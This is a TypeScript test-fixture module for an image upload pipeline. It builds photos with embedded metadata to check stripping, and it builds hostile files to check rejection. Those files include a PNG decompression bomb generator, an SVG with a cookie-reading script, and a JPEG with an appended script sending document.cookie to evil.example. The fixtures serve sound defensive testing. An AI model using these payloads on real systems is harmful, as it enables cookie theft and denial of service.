import { deflateSync } from 'node:zlib';
import sharp from 'sharp';

/** Strings embedded in the test photo's metadata; none may reach a served file. */
export const EMBEDDED = {
  serial: 'SERIAL-4711-TESTCAM',
  make: 'Testkamera-Hersteller',
  model: 'Testmodell-X9',
  xmpCreator: 'XMP-Testfotografin-Beispiel',
  copyright: 'Copyright-Testperson-Beispiel',
} as const;

/** A JPEG carrying EXIF (camera make, model, body serial, GPS position near Dessau), XMP and a Display P3 ICC profile. */
export async function jpegWithMetadata(width = 640, height = 480): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: { r: 180, g: 60, b: 40 } } })
    .withExif({
      IFD0: { Make: EMBEDDED.make, Model: EMBEDDED.model, Copyright: EMBEDDED.copyright },
      IFD2: { BodySerialNumber: EMBEDDED.serial },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '51/1 50/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '12/1 14/1 0/1' },
    })
    .withXmp(
      `<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>${EMBEDDED.xmpCreator}</dc:creator></rdf:Description></rdf:RDF></x:xmpmeta>`,
    )
    .withIccProfile('p3')
    .jpeg({ quality: 90 })
    .toBuffer();
}

export function png(width = 64, height = 64): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: { r: 20, g: 120, b: 200 } } }).png().toBuffer();
}

export function webp(width = 64, height = 64): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: { r: 20, g: 200, b: 120 } } }).webp().toBuffer();
}

/**
 * EXIF tags of a TIFF structure's IFD0 (the EXIF block sharp's metadata()
 * returns, `Exif\0\0` first): enough to prove the input carries a GPS IFD
 * (tag 0x8825) and an EXIF sub-IFD (0x8769) before checking the output has none.
 */
export function ifd0Tags(exif: Buffer): number[] {
  const tiff = exif.subarray(exif.indexOf('Exif\0\0', 0, 'latin1') + 6);
  const little = tiff.toString('latin1', 0, 2) === 'II';
  const u16 = (at: number) => (little ? tiff.readUInt16LE(at) : tiff.readUInt16BE(at));
  const u32 = (at: number) => (little ? tiff.readUInt32LE(at) : tiff.readUInt32BE(at));
  const ifd = u32(4);
  return Array.from({ length: u16(ifd) }, (_, i) => u16(ifd + 2 + i * 12));
}

function crc32(bytes: Buffer): number {
  let crc = ~0;
  for (const byte of bytes) {
    crc ^= byte;
    for (let k = 0; k < 8; k++) crc = (crc >>> 1) ^ (0xedb88320 & -(crc & 1));
  }
  return ~crc >>> 0;
}

function chunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/**
 * A decompression bomb: a well-formed PNG header claiming `side`×`side`
 * pixels with a few kilobytes of deflated zeros. Decoding it fully would need
 * side² × 3 bytes of memory.
 */
export function pngBomb(side = 50_000): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header[8] = 8; // bit depth
  header[9] = 2; // RGB
  const rows = deflateSync(Buffer.alloc((side * 3 + 1) * 16));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', rows),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

export const SVG = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><script>alert(document.cookie)</script><rect width="64" height="64" fill="red"/></svg>',
);

/** Every hostile file the pipeline must refuse, by name. */
export async function hostileFiles(): Promise<Record<string, Buffer>> {
  const jpeg = await jpegWithMetadata(320, 240);
  const pngFile = await png();
  return {
    svg: SVG,
    'png with trailing html': Buffer.concat([pngFile, Buffer.from('<html><body><script>alert(1)</script></body></html>')]),
    'jpeg with appended script': Buffer.concat([jpeg, Buffer.from('\n<script>fetch("https://evil.example/"+document.cookie)</script>')]),
    'text renamed .jpg': Buffer.from('Dies ist keine Bilddatei, nur Text mit der Endung .jpg\n'),
    'truncated jpeg': jpeg.subarray(0, Math.floor(jpeg.length / 2)),
    // Cut short, then given its end marker back: only the decoder can tell.
    'truncated jpeg with end marker': Buffer.concat([jpeg.subarray(0, Math.floor(jpeg.length * 0.6)), Buffer.from([0xff, 0xd9])]),
    'pixel bomb': pngBomb(),
  };
}
